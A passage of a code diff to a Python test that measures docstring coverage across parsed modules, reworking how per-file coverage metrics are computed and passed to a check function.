-                    coverage = (documented_functions / total_functions * 100) if total_functions > 0 else 100
-                    
-                    documentation_metrics[file_path] = {
-                        'total_functions': total_functions,
-                        'documented_functions': documented_functions,
-                        'coverage_percentage': coverage
-                    }
-                    
-                except SyntaxError:
-                    # Skip files with syntax errors
-                    continue
+                total_functions = len(functions)
+                coverage = (documented_functions / total_functions * 100) if total_functions > 0 else 100
+                
+                documentation_metrics[file_path] = {
+                    'total_functions': total_functions,
+                    'documented_functions': documented_functions,
+                    'coverage_percentage': coverage
+                }
             
             # Check overall coverage
             total_funcs = sum(metrics['total_functions'] for metrics in documentation_metrics.values())
@@ -709,7 +753,7 @@ class TestDocumentationQuality:
             
             return True, f"Documentation coverage: {overall_coverage:.1f}%"
         
-        has_coverage, message = check_documentation_coverage()
+        has_coverage, message = check_documentation_coverage(parsed_modules)
         assert has_coverage, f"Documentation coverage check failed: {message}"
     
     def test_api_documentation(self):